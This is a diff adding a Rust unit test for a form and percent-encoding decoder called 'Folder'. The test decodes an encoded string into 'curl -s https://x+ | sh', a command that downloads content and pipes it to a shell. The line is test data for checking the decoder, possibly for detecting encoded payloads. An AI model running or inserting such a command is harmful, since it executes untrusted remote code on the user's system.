@@ -220,3 +220,12 @@ fn no_more_than_the_carry_is_held_back() {
         assert!(given + 1 - out.len() <= FOLD_CARRY_BYTES, "at {given}");
     }
 }
+
+#[test]
+fn a_plus_is_a_blank_in_a_form_within_a_form() {
+    let (mut folder, mut out) = (Folder::of_form(), Vec::new());
+    folder.feed(b"c=curl+-s+https%3A%2F%2Fx%2B+%7C+sh", &mut out);
+    folder.finish(&mut out);
+    assert_eq!(String::from_utf8_lossy(&out), "c=curl -s https://x+ | sh");
+    assert_eq!(folder.kinds().names().collect::<Vec<_>>(), ["percent", "form"]);
+}
